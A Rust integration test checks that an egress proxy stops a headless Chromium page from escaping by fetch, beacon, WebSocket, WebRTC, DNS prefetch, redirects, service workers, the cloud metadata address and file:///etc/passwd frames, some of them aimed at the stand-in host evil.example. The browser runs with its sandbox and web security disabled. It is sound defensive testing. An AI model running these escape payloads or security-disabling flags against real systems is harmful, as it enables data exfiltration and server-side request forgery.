//! A real browser whose only way out is the proxy (SS-24): a page tries to get past it in each way that a
//! browser has. In a network namespace of its own every address is this machine's, so whatever gets
//! past arrives somewhere, and the control shows that it does.

use std::{
    collections::{BTreeMap, BTreeSet},
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{IpAddr, Ipv6Addr, TcpListener, TcpStream, UdpSocket},
    os::unix::process::CommandExt as _,
    process::{Child, Command, Stdio},
    sync::{Arc, Condvar, Mutex},
    thread,
    time::{Duration, Instant},
};

use haft_egress::EgressProxy;
use haft_testkit::PATIENCE;

use crate::{
    Names, Script,
    bridge::{Helper, bridge, free_port},
    corpus::{in_own_network, is_in_own_network},
    proxy_with,
};

/// The page, and what it may reach.
const PAGE: (&str, &str) = ("good.example", "198.17.0.1");
const ALSO_ALLOWED: (&str, &str) = ("static.example", "198.17.0.3");

/// A name that no rule allows.
const DENIED: (&str, &str) = ("evil.example", "198.17.0.2");

/// Where a page says that it will want to connect.
const PRECONNECTED: &str = "198.17.0.9";

/// Ports of servers: the web, a server of this machine, a browser's own door for debugging, STUN over
/// TCP.
const TCP: [u16; 5] = [80, 443, 8080, 9222, 3478];

/// Names, QUIC, STUN, and names by multicast.
const UDP: [u16; 4] = [53, 443, 3478, 5353];

/// How a browser is started so that it has no other way out. Beside these it needs no route: a sandbox
/// gives it a network of its own.
const ONLY_THE_PROXY: [&str; 4] = [
    // Without this, what is on this machine is asked directly.
    "--proxy-bypass-list=<-loopback>",
    // Without this, WebRTC sends its own packets. What `--force-webrtc-ip-handling-policy` meant once,
    // Chromium 156 does not read.
    "--webrtc-ip-handling-policy=disable_non_proxied_udp",
    "--disable-quic",
    "--disable-background-networking",
];

/// What a browser of the test needs. What it would refuse of its own accord is let through, so that the
/// proxy is what is tested.
const USUAL: [&str; 9] = [
    "--headless=new",
    // Its own sandbox needs privileges that the namespace does not give; the page is the test's.
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--remote-debugging-port=0",
    "--disable-web-security",
    // The network of the test has nothing else.
    "--allow-loopback-in-peer-connection",
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights",
    "--unsafely-treat-insecure-origin-as-secure=http://good.example",
];

/// Each way out, as a line of a script that names it. `T` is where it leads.
const WAYS: [(&str, &str); 19] = [
    (
        "fetch-loopback",
        "fetch('http://127.0.0.1:8080/fetch-loopback', {mode: 'no-cors'})",
    ),
    (
        "fetch-localhost",
        "fetch('http://localhost:8080/fetch-localhost', {mode: 'no-cors'})",
    ),
    (
        "fetch-ipv6",
        "fetch('http://[::1]:8080/fetch-ipv6', {mode: 'no-cors'})",
    ),
    (
        "fetch-unspecified",
        "fetch('http://0.0.0.0:8080/fetch-unspecified', {mode: 'no-cors'})",
    ),
    (
        "fetch-metadata",
        "fetch('http://169.254.169.254/fetch-metadata', {mode: 'no-cors'})",
    ),
    (
        "fetch-private",
        "fetch('http://10.0.0.1:8080/fetch-private', {mode: 'no-cors'})",
    ),
    (
        "fetch-evil",
        "fetch('http://evil.example:8080/fetch-evil', {mode: 'no-cors'})",
    ),
    (
        "fetch-debugging",
        "fetch('http://127.0.0.1:9222/json/fetch-debugging', {mode: 'no-cors'})",
    ),
    (
        "beacon",
        "navigator.sendBeacon('http://evil.example:8080/beacon', 'x')",
    ),
    ("image", "new Image().src = 'http://127.0.0.1:8080/image'"),
    ("frame", "frame('http://127.0.0.1:8080/frame')"),
    ("form", "form('http://evil.example:8080/form')"),
    ("events", "new EventSource('http://127.0.0.1:8080/events')"),
    ("socket", "new WebSocket('ws://127.0.0.1:8080/socket')"),
    ("preconnect", "link('preconnect', 'http://198.17.0.9:8080')"),
    (
        "prefetch",
        "link('prefetch', 'http://evil.example:8080/prefetch')",
    ),
    ("worker", "worker()"),
    ("redirect", "fetch('/to-loopback', {mode: 'no-cors'})"),
    ("popup", "frame('/popup')"),
];

/// Ways that are seen by their packets: names, WebRTC over both, QUIC.
const PACKETS: &str = "
    link('dns-prefetch', '//dns-secret.evil.example');
    for (const server of ['stun:198.17.0.2:3478', 'turn:198.17.0.2:3478?transport=tcp', 'turn:127.0.0.1:3478']) {
        const peer = new RTCPeerConnection({iceServers: [{urls: server, username: 'u', credential: 'c'}]});
        peer.createDataChannel('x');
        peer.createOffer().then(offer => peer.setLocalDescription(offer));
    }
    try { new WebTransport('https://198.17.0.2:443/transport').ready.catch(() => {}); } catch {}
    for (const address of ['file:///etc/passwd', 'view-source:http://127.0.0.1:8080/view-source', 'chrome://version'])
        frame(address);
";

const HELPERS: &str = "
    const frame = address => { const f = document.createElement('iframe'); f.src = address; document.body.append(f); };
    const link = (rel, href) => { const l = document.createElement('link'); l.rel = rel; l.href = href; document.head.append(l); };
    const form = address => {
        const f = document.createElement('form'); f.action = address; f.method = 'post'; f.target = 'inner';
        const inner = document.createElement('iframe'); inner.name = 'inner';
        document.body.append(inner, f); f.submit();
    };
    const worker = () => navigator.serviceWorker.register('/worker.js');
    const tried = (name, run) => { try { const p = run(); if (p && p.catch) p.catch(() => {}); } catch (e) { failed.push(name + ': ' + e); } };
    const failed = [];
";

/// Reaches for this machine when the page is gone.
const WORKER: &str = "
    self.addEventListener('install', event => { self.skipWaiting();
        setTimeout(() => fetch('http://127.0.0.1:8080/worker', {mode: 'no-cors'}).catch(() => {}), 300); });
";

/// Who came, by what they asked for and where; and how much was said over UDP, by port.
#[derive(Default)]
struct Arrivals {
    connected: Vec<IpAddr>,
    asked: Vec<(IpAddr, u16, String)>,
    packets: BTreeMap<u16, usize>,
}

#[derive(Clone, Default)]
struct World(Arc<(Mutex<Arrivals>, Condvar)>);

impl World {
    /// Listens on every address.
    fn start() -> Self {
        let world = Self::default();
        for port in TCP {
            let listener = TcpListener::bind((Ipv6Addr::UNSPECIFIED, port)).unwrap();
            let world = world.clone();
            thread::spawn(move || {
                for stream in listener.incoming() {
                    let (stream, world) = (stream.unwrap(), world.clone());
                    thread::spawn(move || world.answer(stream, port));
                }
            });
        }
        for port in UDP {
            let socket = UdpSocket::bind((Ipv6Addr::UNSPECIFIED, port)).unwrap();
            let world = world.clone();
            thread::spawn(move || {
                while socket.recv_from(&mut [0; 2048]).is_ok() {
                    let (arrivals, changed) = &*world.0;
                    *arrivals.lock().unwrap().packets.entry(port).or_default() += 1;
                    changed.notify_all();
                }
            });
        }
        world
    }

    fn answer(&self, mut stream: TcpStream, port: u16) {
        let to = stream.local_addr().unwrap().ip().to_canonical();
        self.0.0.lock().unwrap().connected.push(to);
        let mut lines = BufReader::new(stream.try_clone().unwrap());
        let (mut first, mut length) = (String::new(), 0);
        loop {
            let mut line = String::new();
            if lines.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                break;
            }
            if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                length = value.trim().parse().unwrap_or(0);
            }
            if first.is_empty() {
                first = line;
            }
        }
        let mut body = vec![0; length];
        let _ = lines.read_exact(&mut body);
        let path = first.split(' ').nth(1).unwrap_or(&first).to_owned();
        let body = String::from_utf8_lossy(&body).into_owned();
        let (arrivals, changed) = &*self.0;
        let asked = format!("{path} {body}");
        arrivals.lock().unwrap().asked.push((to, port, asked));
        changed.notify_all();
        let _ = stream.write_all(answer_to(&path).as_bytes());
    }

    /// Waits until the page says that it has tried everything.
    fn until_done(&self) {
        let (arrivals, changed) = &*self.0;
        let is_done = |arrivals: &mut Arrivals| {
            let mut asked = arrivals.asked.iter();
            !asked.any(|(_, _, asked)| asked.starts_with("/done"))
        };
        let waited = changed.wait_timeout_while(arrivals.lock().unwrap(), PATIENCE, is_done);
        let (arrivals, late) = waited.unwrap();
        assert!(
            !late.timed_out(),
            "the page has not run: {:?}",
            arrivals.asked
        );
    }

    /// What arrived where the page may go, and elsewhere.
    fn came(&self) -> Came {
        let arrivals = self.0.0.lock().unwrap();
        let mut came = Came {
            packets: arrivals.packets.clone(),
            ..Came::default()
        };
        let allowed = [PAGE.1, ALSO_ALLOWED.1].map(|address| address.parse::<IpAddr>().unwrap());
        // It connects and says nothing.
        let silent: IpAddr = PRECONNECTED.parse().unwrap();
        if arrivals.connected.contains(&silent) {
            came.past.insert("preconnect".to_owned());
        }
        for (to, port, asked) in &arrivals.asked {
            if *to == silent {
                continue;
            }
            if allowed.contains(to) {
                came.where_allowed.push(asked.trim().to_owned());
                continue;
            }
            let ways = WAYS.iter().map(|(way, _)| *way);
            match ways.clone().find(|way| asked.contains(&format!("/{way} "))) {
                Some(way) => drop(came.past.insert(way.to_owned())),
                None => drop(came.past.insert(format!("{to}:{port} {asked}"))),
            }
        }
        came
    }
}

#[derive(Debug, Default)]
struct Came {
    where_allowed: Vec<String>,
    past: BTreeSet<String>,
    packets: BTreeMap<u16, usize>,
}

fn answer_to(path: &str) -> String {
    let (kind, body) = match path {
        "/" => ("text/html", page()),
        "/worker.js" => ("text/javascript", WORKER.to_owned()),
        "/popup" => (
            "text/html",
            "<meta http-equiv=refresh content='0; url=http://127.0.0.1:8080/popup'>".to_owned(),
        ),
        "/to-loopback" => {
            return "HTTP/1.1 302 X\r\nlocation: http://127.0.0.1:8080/redirect\r\nconnection: close\r\n\
                    content-length: 0\r\n\r\n"
                .to_owned();
        }
        _ => ("text/plain", "x".to_owned()),
    };
    format!(
        "HTTP/1.1 200 X\r\nconnection: close\r\ncontent-type: {kind}\r\naccess-control-allow-origin: *\r\n\
         content-length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// Tries everything, and says so when what takes longest has had its time.
fn page() -> String {
    let ways = WAYS.map(|(name, run)| format!("tried('{name}', () => {run});\n"));
    format!(
        "<!doctype html><title>x</title><body><img src=/twin-image><script>{HELPERS}{}{PACKETS}\
         fetch('http://static.example:8080/twin-fetch').then(r => r.text()).catch(e => failed.push('twin: ' + e))\
         .then(() => setTimeout(() => fetch('/done', {{method: 'POST', body: failed.join('; ')}}), 4000));\
         </script>",
        ways.concat()
    )
}

/// A browser and what it started; ended when dropped.
struct Browser(Child);

impl Browser {
    fn start(home: &std::path::Path, more: &[String]) -> Self {
        let log = std::fs::File::create(home.join("log")).unwrap();
        let child = Command::new("chromium")
            .args(USUAL)
            .arg(format!(
                "--user-data-dir={}",
                home.join("profile").display()
            ))
            .args(more)
            .arg(format!("http://{}/", PAGE.0))
            .env("HOME", home)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .process_group(0)
            .spawn()
            .expect("chromium");
        Self(child)
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        if let Ok(group) = i32::try_from(self.0.id())
            && let Some(group) = rustix::process::Pid::from_raw(group)
        {
            let _ = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
        }
        let _ = self.0.wait();
    }
}

/// Where the names lead for a browser that asks nobody.
fn without_proxy() -> Vec<String> {
    let names = [PAGE, ALSO_ALLOWED, DENIED].map(|(name, to)| format!("MAP {name} {to}"));
    vec![format!("--host-resolver-rules={}", names.join(", "))]
}

fn behind(port: u16) -> Vec<String> {
    let mut options = vec![format!("--proxy-server=http://127.0.0.1:{port}")];
    options.extend(ONLY_THE_PROXY.map(str::to_owned));
    options
}

fn gate() -> (EgressProxy, u16, Helper) {
    let mut names = Names::new();
    for (name, to) in [PAGE, ALSO_ALLOWED, DENIED] {
        names.insert(name.to_owned(), vec![vec![to.parse().unwrap()]]);
    }
    let allow = ["good.example:80", "static.example:8080"];
    let proxy = proxy_with(&allow, |options| options.resolver = Script::new(&names));
    let port = free_port();
    let helper = bridge(&proxy, port, &[]);
    (proxy, port, helper)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "ci: needs chromium"]
async fn ss_24_a_page_in_a_browser_reaches_what_rules_allow_and_nothing_else() {
    if !is_in_own_network() {
        return in_own_network(
            "browser::ss_24_a_page_in_a_browser_reaches_what_rules_allow_and_nothing_else",
        );
    }
    let world = World::start();
    let home = tempfile::tempdir().unwrap();
    // The control: without the proxy each of these gets there.
    let browser = Browser::start(home.path(), &without_proxy());
    tokio::task::block_in_place(|| world.until_done());
    let began = Instant::now();
    let missing = |came: &Came| {
        let ways = WAYS.iter().map(|(way, _)| *way);
        let mut missing: Vec<&str> = ways.filter(|way| !came.past.contains(*way)).collect();
        for (port, what) in [(53, "a name"), (3478, "STUN"), (443, "QUIC")] {
            if !came.packets.contains_key(&port) {
                missing.push(what);
            }
        }
        missing
    };
    while !missing(&world.came()).is_empty() {
        let (missing, came) = (missing(&world.came()), world.came());
        assert!(began.elapsed() < PATIENCE, "{missing:?} of {came:?}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    drop(browser);

    *world.0.0.lock().unwrap() = Arrivals::default();
    let home = tempfile::tempdir().unwrap();
    let (proxy, port, _helper) = gate();
    let browser = Browser::start(home.path(), &behind(port));
    tokio::task::block_in_place(|| world.until_done());
    tokio::time::sleep(Duration::from_secs(1)).await;
    drop(browser);
    let came = world.came();
    println!("{} ways, {:?}", WAYS.len(), came.where_allowed);
    assert_eq!(came.past, BTreeSet::new(), "{came:?}");
    assert_eq!(came.packets, BTreeMap::new(), "{came:?}");
    // The twins: the page, its image, another host that is allowed, and its worker.
    for twin in ["/", "/twin-image", "/twin-fetch", "/worker.js", "/done"] {
        assert!(
            came.where_allowed.iter().any(|asked| asked == twin),
            "{twin}: {came:?}"
        );
    }
    // It was tried, and the proxy is who said no.
    let refused: Vec<String> = proxy.refusals().iter().map(ToString::to_string).collect();
    for host in [
        "127.0.0.1:8080",
        "localhost:8080",
        "[::1]:8080",
        "169.254.169.254:80",
        "evil.example:8080",
    ] {
        assert!(
            refused.iter().any(|line| line.contains(host)),
            "{host}: {refused:?}"
        );
    }
}
